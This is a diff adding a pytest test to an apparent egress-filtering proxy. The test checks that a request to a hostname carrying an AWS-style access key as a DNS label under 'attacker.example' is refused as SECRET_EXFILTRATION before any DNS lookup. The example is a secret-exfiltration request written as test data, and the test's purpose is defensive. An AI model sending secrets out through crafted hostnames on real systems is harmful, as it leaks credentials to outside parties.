@@ -135,3 +135,19 @@ def test_a_name_carrying_data_is_never_looked_up(make_sidecar, scan_api):
     assert b"DNS_EXFILTRATION" in body
     assert scan_api.scans.items  # the request was judged by the scan API (ALLOW) ...
     assert dns.lookups == []  # ... and still never looked up
+
+
+def test_a_credential_written_into_the_name_is_refused_unlooked_up(make_sidecar):
+    """A key as a DNS label leaves in the sidecar's own lookup (and the SNI): it is scanned
+    in the case it was written in, and refused before any lookup."""
+    dns = ScriptedDns(**{"AKIAQX4RZT7NM2VBK5WJ_attacker_example": ["93.184.216.34"]})
+    sidecar = make_sidecar(backend="local", resolver=dns.resolver())
+    host = "AKIAQX4RZT7NM2VBK5WJ.attacker.example"
+    status, body = _get(sidecar, f"http://{host}/x", host)
+    assert status == 403, body
+    assert b"SECRET_EXFILTRATION" in body
+    status, doc, sock = connect(str(sidecar.info.proxy), f"{host}:443")
+    sock.close()
+    assert status == 403
+    assert "SECRET_EXFILTRATION" in doc["reason_codes"]
+    assert dns.lookups == []
